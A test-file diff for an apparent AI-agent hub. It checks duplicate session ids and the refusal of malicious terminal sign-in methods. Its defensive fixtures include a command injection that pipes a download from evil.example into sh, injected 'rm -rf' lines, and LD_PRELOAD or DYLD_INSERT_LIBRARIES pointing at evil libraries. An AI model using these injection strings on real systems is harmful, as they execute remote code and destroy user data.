@@ -170,6 +170,26 @@ describe('foreground state', () => {
   });
 });
 
+describe('session ids', () => {
+  it('refuses a second session under an id the agent already uses, and the first keeps its own traffic', async () => {
+    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
+    const second = hub.invoke('newSession', { agentId: 'a', cwd: '/' });
+    await puppet.answer('session/new', { sessionId: 'sess-1' });
+    // spec E-REQ-7: a request names the one session it came from; two tabs under one id could not.
+    await expect(second).rejects.toThrow('Agent A answered with a session id it already uses, so no new session was opened.');
+    expect(hub.snapshot().sessions.map((s) => s.sessionKey)).toEqual([sessionKey]);
+    const turn = hub.invoke('prompt', { sessionKey, text: 'question in tab 1' });
+    const prompt = await puppet.next((m) => m.method === 'session/prompt');
+    await puppet.send(update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'answer for tab 1' } }));
+    await puppet.send({ id: 9, method: 'session/request_permission', params: { sessionId: 'sess-1', toolCall: { toolCallId: 't', title: 'Edit file' }, options: [{ optionId: 'o', name: 'Allow', kind: 'allow_once' }] } });
+    const item = await queueItem(hub);
+    expect(item.scope).toMatchObject({ sessionKey });
+    await puppet.send({ id: prompt.id, result: { stopReason: 'end_turn' } });
+    await turn;
+    expect(transcript(hub).map((e) => e.text)).toContain('answer for tab 1');
+  });
+});
+
 describe('permission requests', () => {
   async function permission(puppet: Puppet, id: number, options = [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' }, { optionId: 'deny', name: 'Deny', kind: 'reject_once' }]) {
     await puppet.send({
@@ -414,6 +434,32 @@ describe('terminal sign-in', () => {
     expect(method.methodId).toBe('login');
     expect(method.terminalCommand).toMatch(/^MODE=tty .*puppet-agent\.mjs --login 'it is me'$/);
     await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(/run this in a terminal/);
+    expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
+  });
+
+  // No spec rule covers terminal sign-in; the brief's: bad agent input gets one plain sentence, nothing run.
+  // The method's env names, args and values come from the agent, and the line is pasted into a shell.
+  it.each([
+    ['a name that is shell syntax', { name: 'X=1; curl -s https://evil.example/p | sh; Y', value: 'z' }, [], /a name no shell accepts/],
+    ['a name holding a line break', { name: 'A\nrm -rf ~/important\nB', value: 'v' }, [], /a name no shell accepts/],
+    ['a loader variable', { name: 'LD_PRELOAD', value: '/tmp/evil.so' }, [], /LD_PRELOAD, which would make the command load code/],
+    ['a macOS loader variable', { name: 'DYLD_INSERT_LIBRARIES', value: '/tmp/evil.dylib' }, [], /DYLD_INSERT_LIBRARIES/],
+    ['a line break in an argument', { name: 'MODE', value: 'tty' }, ['--login\nrm -rf ~'], /control characters/],
+    ['an escape sequence in a value', { name: 'MODE', value: 'tty\u001b[8m' }, [], /control characters/],
+  ])('refuses a terminal method with %s, in one sentence, and shows no command', async (_, env, args, why) => {
+    rig = await startRig([{ id: 'a', name: 'Agent A' }]);
+    const { hub, puppets } = rig;
+    await handshake(hub, puppets[0], 'a', {
+      protocolVersion: 2,
+      info: { name: 'p', version: '1' },
+      capabilities: {},
+      authMethods: [{ methodId: 'login', type: 'terminal', name: 'Log in', args, env: [env] }],
+    });
+    const [method] = hub.snapshot().agents[0].authMethods;
+    expect(method.terminalCommand).toBeUndefined();
+    expect(method.description).toMatch(why);
+    expect(method.description).toMatch(/^Agent A's terminal sign-in was refused: [^\n]*\.$/);
+    await expect(hub.invoke('authenticate', { agentId: 'a', methodId: 'login' })).rejects.toThrow(why);
     expect(puppets[0].received.some((m) => m.method === 'auth/login')).toBe(false);
   });
 });
